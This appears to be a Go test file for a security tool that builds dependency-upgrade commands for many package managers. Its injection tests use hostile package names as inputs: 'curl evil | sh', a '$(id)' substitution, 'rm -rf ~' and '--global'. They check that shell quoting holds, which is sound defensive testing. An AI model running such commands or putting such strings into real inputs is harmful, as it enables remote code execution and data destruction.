package securitygate

import (
	"slices"
	"testing"

	"github.com/slipway-actions/slipway/internal/osv"
	"github.com/slipway-actions/slipway/internal/result"
)

func TestCommand(t *testing.T) {
	tests := []struct{ file, name, want string }{
		{"go.mod", "golang.org/x/net", "go get golang.org/x/net@v2.0.0"},
		{"package-lock.json", "@types/node", "npm install @types/node@2.0.0"},
		{"yarn.lock", "a", "yarn upgrade a@2.0.0"},
		{"pnpm-lock.yaml", "a", "pnpm update a@2.0.0"},
		{"bun.lock", "a", "bun update a@2.0.0"},
		{"Cargo.lock", "smallvec", "cargo update -p smallvec@1.0.0 --precise 2.0.0"},
		{"requirements-dev.txt", "jinja2", "pip install 'jinja2>=2.0.0'"},
		{"poetry.lock", "jinja2", "poetry add 'jinja2>=2.0.0'"},
		{"pdm.lock", "jinja2", "pdm add 'jinja2>=2.0.0'"},
		{"uv.lock", "jinja2", "uv lock --upgrade-package jinja2==2.0.0"},
		{"Pipfile.lock", "jinja2", "pipenv upgrade 'jinja2>=2.0.0'"},
		{"Gemfile.lock", "rack", "bundle update --conservative rack"},
		{"composer.lock", "a/b", "composer update --with-dependencies a/b:2.0.0"},
		{"packages.lock.json", "A.B", "dotnet add package A.B --version 2.0.0"},
		{"pubspec.lock", "http", "dart pub upgrade http"},
		{"mix.lock", "plug", "mix deps.update plug"},
		{"pom.xml", "g:a", "# raise g:a to 2.0.0 in pom.xml"},
		{"go.mod", "x; curl evil | sh", "go get 'x; curl evil | sh@v2.0.0'"},
		{"package-lock.json", "a'$(id)'", `npm install 'a'\''$(id)'\''@2.0.0'`},
		{"package-lock.json", "a\nrm -rf ~", "npm install 'a?rm -rf ~@2.0.0'"},
		{"package-lock.json", "--global", "# raise '--global' to 2.0.0 in package-lock.json"},
	}
	for _, test := range tests {
		if got := command(test.file, osv.Package{Ecosystem: "x", Name: test.name, Version: "1.0.0"}, "2.0.0"); got != test.want {
			t.Errorf("%s, %q: %s\nwant %s", test.file, test.name, got, test.want)
		}
	}
}

func TestCommands(t *testing.T) {
	in := func(file, fixed string) risk {
		return risk{pkg: pkgA, fixed: fixed, places: []result.Where{{File: file}}}
	}
	got := commands([]risk{in("go.mod", "1.2.0"), in("go.mod", "1.10.0"), in("go.mod", ""), in("tools/go.mod", "1.2.0"), in("a b/pom.xml", "1.2.0")})
	want := []string{"# raise example.com/a to 1.2.0 in 'a b/pom.xml'", "(cd tools && go get example.com/a@v1.2.0)", "go get example.com/a@v1.10.0"}
	if !slices.Equal(got, want) {
		t.Errorf("%q", got)
	}
}
